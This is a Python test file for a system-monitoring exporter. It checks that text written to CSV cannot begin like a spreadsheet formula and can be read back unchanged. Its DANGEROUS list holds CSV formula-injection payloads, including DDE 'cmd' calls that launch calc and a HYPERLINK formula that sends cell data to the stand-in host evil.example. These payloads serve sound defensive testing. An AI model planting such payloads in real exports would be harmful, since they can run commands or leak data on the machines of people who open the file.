"""Programs choose their own names, and a CSV file is opened in a spreadsheet: no name becomes a formula there."""

from __future__ import annotations

import csv
import json
import re
from typing import TYPE_CHECKING

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from exporter.recording.file import ExportFile
from exporter.recording.formats import CsvFormat, JsonLinesFormat, harmless
from exporter.render.rows import COLUMNS
from tests.recording.test_export import read_csv, read_jsonl
from tests.recording.test_export_repair import ROW
from tests.support import run

if TYPE_CHECKING:
    from pathlib import Path

TEXTS = [name for name, value in ROW.items() if isinstance(value, str)]
SIGNS = tuple("=+-@\uff1d\uff0b\uff0d\uff20")
STRIPPED = ' \t\r\n\xa0\0\ufeff\u200b"'
DANGEROUS = [
    "=1+cmd|'/C calc'!A0",
    "+1+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.example?"&A1,"open")',
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    '"=1+1"',
    "a;=1+1",
    'a; "=1+1"',
    "a;;-1",
    "-",
    "--x",
]
HARMLESS = ["python3 train.py", "a=b", "a-b", "a@b", "x, =y", "a;b", "node (worker)", "/mnt/a=b", "1-2", "", "it's"]


def read_back(cell: str) -> str:
    """Return the text that was written, as docs/formats.md says."""
    return re.sub(r"(^|[;\t\r\n])'", r"\1", cell)


def cells(text: str, separators: str) -> list[str]:
    """Return the cells of a line as the simplest of spreadsheets sees them: it cuts at any separator, quoted or not."""
    return re.split(f"[{separators}]", text.rstrip("\n"))


@pytest.mark.parametrize("text", DANGEROUS)
def test_no_text_begins_like_a_formula(text: str) -> None:
    for column in TEXTS:
        line = CsvFormat().line({**ROW, column: text})
        (row,) = csv.reader([line], strict=True)
        assert len(row) == len(COLUMNS)
        assert read_back(dict(zip(COLUMNS, row, strict=True))[column]) == text
        for cell in [*row, *cells(line, ";")]:
            assert not cell.lstrip(STRIPPED).startswith(SIGNS), cell


@pytest.mark.parametrize("text", HARMLESS)
def test_other_texts_are_written_as_they_are(text: str) -> None:
    assert harmless(text) == text


def test_numbers_stay_numbers() -> None:
    row = {**ROW, "load1": -3.5, "processes": -3, "battery_plugged": True}
    (written,) = csv.DictReader([CsvFormat.header, CsvFormat().line(row)])
    assert (written["load1"], written["processes"], written["battery_plugged"]) == ("-3.5", "-3", "1")


def test_json_lines_have_the_exact_texts() -> None:
    for text in DANGEROUS:
        row = {**ROW, "top_cpu_name": text}
        assert json.loads(JsonLinesFormat().line(row)) == row


@given(st.text(alphabet=st.sampled_from([*SIGNS, *STRIPPED, *"';,ab1"]), max_size=12) | st.text(max_size=20))
@example("'=1")
@example("''=1")
@example(";'")
def test_any_text_can_be_read_back(text: str) -> None:
    assert read_back(harmless(text)) == text
    for cell in cells(harmless(text), ";\t\r\n"):
        assert not cell.lstrip(STRIPPED).startswith(SIGNS)


def test_no_column_is_called_like_a_formula() -> None:
    assert [name for name in COLUMNS if harmless(name) != name] == []


def test_the_real_command_writes_no_formula(tmp_path: Path) -> None:
    table, objects = tmp_path / "rows.csv", tmp_path / "rows.jsonl"
    name = "=1+cmd|'/C calc'!A0;=2"
    result = run("watch", "--once", "--hostname", name, "--export-csv", str(table), "--export-jsonl", str(objects))
    assert (result.returncode, result.stderr) == (0, "")
    (row,), (entry,) = read_csv(table), read_jsonl(objects)
    assert row["hostname"] == "'=1+cmd|'/C calc'!A0;'=2"
    assert entry["hostname"] == name


def test_a_row_that_was_cut_keeps_the_apostrophes_it_has(tmp_path: Path) -> None:
    path, form = tmp_path / "rows.csv", CsvFormat()
    row = {**ROW, "hostname": "=1"}
    path.write_text(form.header + form.line(row)[:60], encoding="utf-8")
    file = ExportFile(str(path), form)
    file.check()
    file.append(row)
    assert [each["hostname"] for each in csv.DictReader(path.read_text(encoding="utf-8").splitlines())] == ["'=1"] * 2
